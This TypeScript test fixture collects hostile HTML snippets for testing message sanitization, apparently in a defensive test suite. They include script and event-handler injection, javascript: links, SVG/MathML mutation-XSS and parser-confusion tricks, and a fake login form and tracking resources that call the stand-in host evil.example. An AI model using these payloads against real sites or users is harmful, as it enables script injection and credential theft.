/** HTML that an attacker would put into a message. Each piece calls `window.pwned` or requests `evil.example`. */
export const hostileHtml: Record<string, string> = {
  'a script': '<script>pwned(1)</script><script src="https://evil.example/x.js"></script>',
  handlers:
    '<p onclick="pwned(2)" onmouseover="pwned(2)" onfocus="pwned(2)" autofocus tabindex="0">words</p><img src=x onerror="pwned(2)"><details open ontoggle="pwned(2)">more</details>',
  styles:
    '<style>body{display:none}@import "https://evil.example/x.css"</style><p style="position:fixed;inset:0;background:url(https://evil.example/y)">words</p><link rel="stylesheet" href="https://evil.example/z.css">',
  'a form':
    '<form action="https://evil.example/"><input name="password" autofocus onfocus="pwned(4)"><button formaction="javascript:pwned(4)">Log in</button></form>',
  frames:
    '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.pwned(5)</script>"></iframe><object data="https://evil.example/a"></object><embed src="https://evil.example/b">',
  'a change of base': '<base href="https://evil.example/"><a href="c">words</a>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'pictures that report':
    '<img src="https://evil.example/p.gif"><video poster="https://evil.example/q" src="https://evil.example/r" autoplay></video><picture><source srcset="https://evil.example/s"></picture><audio src="https://evil.example/t">',
  'links that run':
    '<a href="javascript:pwned(9)">one</a><a href=" jav&#x0A;ascript:pwned(9)">two</a><a href="data:text/html,<script>pwned(9)</script>">three</a><a href="//evil.example/u" ping="https://evil.example/v">four</a>',
  'names of the page':
    '<p id="root" name="body" class="row">words</p><a id="location" name="cookie">words</a><h3 id="messages-found">words</h3>',
  drawings:
    '<svg onload="pwned(11)"><script>pwned(11)</script><animate onbegin="pwned(11)"/><a xlink:href="javascript:pwned(11)"><text>words</text></a></svg><math href="javascript:pwned(11)">words</math>',
  'raw text that is read twice':
    '<noscript><p title="</noscript><img src=x onerror=pwned(12)>"></noscript><xmp><p title="</xmp><img src=x onerror=pwned(12)>"></xmp><noembed><img title="</noembed><img src=x onerror=pwned(12)>"></noembed><noframes><p id="</noframes><img src=x onerror=pwned(12)>"></noframes>',
  'titles and text areas':
    '<title><a title="</title><img src=x onerror=pwned(13)>"></title><textarea><a title="</textarea><img src=x onerror=pwned(13)>"></textarea><select><option><style></option></select><img src=x onerror=pwned(13)></style>',
  'namespaces that change hands':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned(14)&gt;">',
  'a form inside a form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned(15)>',
  'a style in a drawing':
    '<svg><style><img src=x onerror=pwned(16)></style></svg><svg></p><style><a id="</style><img src=1 onerror=pwned(16)>">',
  'comments that end early':
    '<!--><img src=x onerror=pwned(17)>--><!--- --!><img src=x onerror=pwned(17)>--><![CDATA[><img src=x onerror=pwned(17)>]]><?x ><img src=x onerror=pwned(17)>',
  'a template':
    '<template><img src=x onerror=pwned(18)></template><div><template shadowrootmode="open"><img src=x onerror=pwned(18)></template></div>',
  'tags that are cut short':
    '<img src=x onerror=pwned(19) <b>words<scr<script>ipt>pwned(19)</script><p title="a>b" onclick=pwned(19)',
  'words that only look like tags': '&lt;img src=x onerror=pwned(20)&gt; &amp;lt;script&amp;gt;pwned(20)&amp;lt;/script&amp;gt;',
  'elements of its own':
    '<x-evil onclick="pwned(21)" is="y">words</x-evil><slot name="z">words</slot><portal src="https://evil.example/"></portal>',
  depth: `${'<div>'.repeat(600)}<svg>${'<p>'.repeat(600)}<img src=x onerror=pwned(22)>`,
};
